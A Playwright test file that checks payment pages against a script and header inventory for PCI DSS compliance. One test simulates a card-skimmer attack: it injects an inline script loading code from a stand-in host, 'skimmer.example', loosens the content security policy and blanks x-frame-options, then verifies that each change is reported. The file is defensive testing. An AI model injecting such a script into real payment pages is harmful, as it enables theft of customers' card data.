import { createHash } from 'node:crypto';
import type { Page } from '@playwright/test';
import { expectInteractive, open } from '../browser/interactive.ts';
import { differences } from '../payment-scripts/compare.ts';
import { readInventory } from '../payment-scripts/inventory.ts';
import { watchScripts, type SeenPage } from '../payment-scripts/watch-scripts.ts';
import { addStaff } from '../site/staff-account.ts';
import { expect, test } from './journey.ts';

// PCI DSS 4.0.1, 6.4.3 and 11.6.1: the scripts and policies of the payment pages match docs/payment-scripts.json.

const [plan = ''] = readInventory().pages;

/** The inventory of a site with the sandbox's providers. */
async function inventoryOf(page: Page) {
  const settings = (await (await page.request.get('/api/payment-settings')).json()) as {
    stripe: { scriptUrl: string };
    square: { scriptUrl: string } | null;
  };
  return readInventory({
    stripe: new URL(settings.stripe.scriptUrl).origin,
    ...(settings.square ? { square: new URL(settings.square.scriptUrl).origin } : {}),
  });
}

async function readPage(page: Page, path: string): Promise<SeenPage> {
  const read = await watchScripts(page);
  await open(page, path);
  // By then the provider's script has loaded.
  if (path === plan) await expect(page.locator('iframe[title="Secure card number input frame"]')).toBeVisible();
  return read();
}

for (const path of readInventory().pages) {
  test(`${path} runs the listed scripts, and has the listed headers`, async ({ page, baseURL, browserErrors }) => {
    // A missing order.
    browserErrors.allow(/status of 404/);
    const seenPage = await readPage(page, path);
    expect(seenPage.scripts.length).toBeGreaterThan(3);
    if (path === plan)
      expect(seenPage.scripts.some(({ url }) => new URL(url || baseURL || '').origin !== baseURL)).toBe(true);
    expect(differences(seenPage, await inventoryOf(page), baseURL ?? '')).toEqual([]);
  });
}

test('the card test pages run the listed scripts, and have the listed headers', async ({
  page,
  baseURL,
  browserErrors,
}) => {
  // The server answers admin pages with 404.
  browserErrors.allow(/status of 40[134]/);
  const { email, password } = await addStaff(`scripts.${Date.now()}@plumbline.example`);
  await open(page, '/staff');
  await page.getByLabel('E-mail').fill(email);
  await page.getByLabel('Password').fill(password);
  await page.getByRole('button', { name: 'Sign in', exact: true }).click();
  await expect(page).toHaveURL('/admin');
  await expect.poll(() => page.evaluate(() => sessionStorage.getItem('adminSession'))).toBe('{"isAdmin":true}');
  const inventory = await inventoryOf(page);
  for (const path of inventory.staffPages) {
    const seenPage = await readPage(page, path);
    expect(seenPage.scripts.length).toBeGreaterThan(3);
    expect(differences(seenPage, inventory, baseURL ?? '')).toEqual([]);
  }
});

test('a tampered page is reported', async ({ page, baseURL, browserErrors }) => {
  browserErrors.allow(/./);
  const inventory = await inventoryOf(page);
  await page.route('https://skimmer.example/**', (route) =>
    route.fulfill({ contentType: 'text/javascript', body: 'void 0' }),
  );
  await page.route(`${baseURL}${plan}`, async (route) => {
    const answer = await route.fetch();
    const headers = answer.headers();
    const skimmer = `document.head.append(Object.assign(document.createElement('script'),{src:'https://skimmer.example/a.js'}))`;
    const hash = createHash('sha256').update(skimmer).digest('base64');
    const policy = headers['content-security-policy']
      ?.replace("connect-src 'self'", "connect-src 'self' https://skimmer.example")
      .replace('script-src ', `script-src 'sha256-${hash}' `);
    const added = `<script>${skimmer}</script>`;
    await route.fulfill({
      response: answer,
      headers: { ...headers, 'content-security-policy': policy ?? '', 'x-frame-options': '' },
      body: (await answer.text()).replace('</body>', `${added}</body>`),
    });
  });
  const read = await watchScripts(page);
  await page.goto(plan);
  await expectInteractive(page);
  const messages = differences(await read(), inventory, baseURL ?? '').map((message) =>
    message.replace(/sha256-[^'\s]+/, 'sha256-…'),
  );
  expect(messages.sort()).toEqual(
    [
      `${plan}: a script stands in the page that is not listed: inline sha256-…`,
      `${plan}: https://skimmer.example/a.js is not listed`,
      `${plan}: the header x-frame-options is "", not "DENY"`,
      `${plan}: the policy has 'sha256-…' in script-src`,
      `${plan}: the policy has https://skimmer.example in connect-src`,
    ].sort(),
  );
});
